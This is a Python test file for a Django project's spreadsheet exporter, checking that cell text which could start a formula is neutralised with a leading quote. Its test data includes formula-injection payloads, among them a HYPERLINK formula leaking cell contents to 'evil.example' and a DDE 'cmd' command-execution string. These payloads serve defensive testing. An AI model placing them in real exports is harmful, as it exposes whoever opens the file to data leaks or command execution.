"""The one spreadsheet writer: text that could start a formula is written as quoted text."""

from __future__ import annotations

import re
from datetime import date, datetime, time
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from kaifaqu.core.exports import (
    BOLD,
    WRAP_TOP,
    ExportWorkbook,
    Style,
    neutralised,
    sheet_title,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_could_start_a_formula_gets_a_leading_quote(text: str) -> None:
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["甲一水泥有限公司", "", "a=1", " =1", "'=1", "1-2", "＝1", "\n=1", "Total"]
)
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralised(text) == text


@pytest.mark.parametrize(
    "value",
    [
        None,
        0,
        -5,
        -1.5,
        Decimal("-12.30"),
        True,
        False,
        date(2025, 1, 2),
        time(4, 5),
        datetime(2025, 1, 2, 3),
    ],
)
def test_numbers_dates_and_empty_cells_stay_what_they_are(value: object) -> None:
    assert neutralised(value) is value


def test_lazy_text_and_objects_become_their_text_then_are_neutralised() -> None:
    total = gettext_lazy("Total")
    assert neutralised(total) == str(total)
    assert isinstance(neutralised(total), str)

    class Named:
        def __str__(self) -> str:
            return "=cmd|' /C calc'!A0"

    assert neutralised(Named()) == "'=cmd|' /C calc'!A0"


def test_the_workbook_holds_strings_not_formulas_and_numbers_as_numbers() -> None:
    workbook = ExportWorkbook()
    sheet = workbook.sheet("名单[1]:*?/\\" + "x" * 40)
    sheet.widths({"A": 30})
    sheet.freeze("A2")
    sheet.append(["名称", "金额"], Style(font=BOLD, alignment=WRAP_TOP))
    money = Style(number_formats=(None, "#,##0.00"))
    for text in HOSTILE:
        sheet.append([text, Decimal("-3.50")], money)
    sheet.append([None, -7], money)
    book = load_workbook(BytesIO(workbook.content()))
    (read,) = book.worksheets
    assert read.title == "名单1" + "x" * 28
    rows = list(read.iter_rows())
    assert rows[0][0].font.bold
    assert rows[0][0].alignment.wrap_text
    assert not rows[1][0].alignment.wrap_text
    assert read.freeze_panes == "A2"
    assert read.column_dimensions["A"].width == 30
    for row, text in zip(rows[1:], HOSTILE, strict=False):
        name, amount = row
        assert name.data_type == "s"
        # The XML keeps a carriage return as a line break; the quote is what matters.
        assert name.value.replace("\n", "\r") in ("'" + text, "'" + text.replace("\n", "\r"))
        assert amount.data_type == "n"
        assert amount.value == -3.5
        assert amount.number_format == "#,##0.00"
    assert rows[-1][0].value is None
    assert rows[-1][1].value == -7


def test_sheet_titles_lose_what_excel_refuses_and_keep_31_characters() -> None:
    assert sheet_title("a/b\\c?d*e[f]g:h") == "abcdefgh"
    assert len(sheet_title("x" * 40)) == 31


WRITERS = re.compile(
    r"from openpyxl import .*Workbook|openpyxl\.Workbook|WriteOnlyCell|csv\.writer|"
    r"csv\.DictWriter|xlsxwriter|\.to_excel\(|\.write_excel\(|\.write_csv\(|\.to_csv\("
)


# CSV streamed into PostgreSQL's COPY by the bulk loaders: the database reads it, not a person.
NOT_EXPORTS = {
    "kaifaqu/core/exports.py",
    "kaifaqu/core/frames.py",
    "kaifaqu/returns/imports/writer.py",
}


def test_no_module_but_the_writer_builds_a_spreadsheet() -> None:
    """Every export goes through core/exports.py: a module writing cells itself would skip the
    neutralising. Tests may build hostile workbooks to import."""
    root = Path(__file__).resolve().parents[3]
    offenders = []
    for path in (root / "kaifaqu").rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in relative or relative in NOT_EXPORTS:
            continue
        if "/migrations/" in relative:
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []
